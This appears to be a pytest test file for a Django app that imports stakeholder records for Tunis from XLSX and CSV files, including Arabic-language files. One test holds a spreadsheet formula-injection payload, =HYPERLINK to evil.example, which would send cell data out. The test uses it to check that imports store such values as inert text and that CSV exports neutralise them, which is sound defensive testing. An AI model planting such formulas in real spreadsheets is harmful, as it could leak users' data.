"""Upload, preview, choose, commit: good files in every accepted shape."""

import datetime

import pytest

from imports.models import ImportBatch
from stakeholders.models import Contact, Stakeholder

from .conftest import ROW_ASSOCIATION, ROW_OIM, csv_file, xlsx_file

pytestmark = pytest.mark.django_db


def _preview_and_commit(client, response, lang="fr"):
    assert response.status_code == 302, response.content.decode()[:2000]
    preview = client.get(response.url)
    assert preview.status_code == 200
    batch = ImportBatch.objects.get()
    return preview, client.post(f"/{lang}/c/tunis/imports/{batch.pk}/commit/", follow=True)


@pytest.mark.parametrize(
    "make_file",
    [
        lambda rows: xlsx_file(rows),
        lambda rows: csv_file(rows, delimiter=";", bom=True),
        lambda rows: csv_file(rows, delimiter=",", bom=False),
        lambda rows: csv_file(rows, language="ar"),
        lambda rows: xlsx_file(rows, language="ar"),
    ],
    ids=["xlsx", "csv-semicolon-bom", "csv-comma-no-bom", "csv-arabic-headers", "xlsx-arabic-headers"],
)
def test_it_imports_a_good_file(client, upload, city, make_file):
    preview, done = _preview_and_commit(client, upload(make_file([ROW_OIM, ROW_ASSOCIATION])))
    assert "Organisation Internationale pour les Migrations" in preview.content.decode()
    assert "Import terminé : 2 créées, 0 mises à jour, 0 inchangées, 0 ignorées." in done.content.decode()
    oim = Stakeholder.objects.get(city=city, name_fr=ROW_OIM["name_fr"])
    assert (oim.name_ar, oim.acronym_fr, oim.category, oim.level) == (
        "المنظمة الدولية للهجرة",
        "OIM",
        "international_org",
        "international",
    )
    assert (oim.influence, oim.interest, oim.is_active, oim.joined_on) == (4, 5, True, datetime.date(2023, 11, 7))
    assert sorted(d.code for d in oim.domains.all()) == ["health", "housing"]
    assert oim.search_text.startswith("organisation internationale pour les migrations")
    contact = Contact.objects.get(stakeholder=oim)
    assert (contact.name, contact.email, contact.phone, contact.language, contact.is_primary) == (
        "Sonia Haddad",
        "sonia.haddad@example.org",
        "+216 71 111 222",
        "ar",
        True,
    )
    association = Stakeholder.objects.get(city=city, name_fr=ROW_ASSOCIATION["name_fr"])
    assert [d.code for d in association.domains.all()] == ["legal-aid"]
    assert not association.contacts.exists()
    assert ImportBatch.objects.get().committed_at is not None


def test_the_preview_is_in_arabic_with_errors_in_arabic(client, upload, city):
    bad = {**ROW_ASSOCIATION, "influence": "9", "category": "inconnue"}
    response = upload(csv_file([bad], language="ar"), lang="ar")
    preview = client.get(response.url.replace("/fr/", "/ar/")).content.decode()
    assert 'dir="rtl"' in preview
    assert "«9» ليس عددًا صحيحًا من 1 إلى 5." in preview
    assert "«inconnue» ليست من القيم المسموح بها." in preview


def test_a_formula_is_data_never_run(client, upload, city):
    row = {**ROW_ASSOCIATION, "name_fr": '=HYPERLINK("http://evil.example/?x="&A1)', "notes": "@SUM(1+1)"}
    _preview_and_commit(client, upload(xlsx_file([row])))
    stakeholder = Stakeholder.objects.get(city=city)
    assert stakeholder.name_fr == '=HYPERLINK("http://evil.example/?x="&A1)'
    assert stakeholder.notes == "@SUM(1+1)"
    export = client.get("/fr/c/tunis/stakeholders/export.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in export and "'@SUM(1+1)" in export
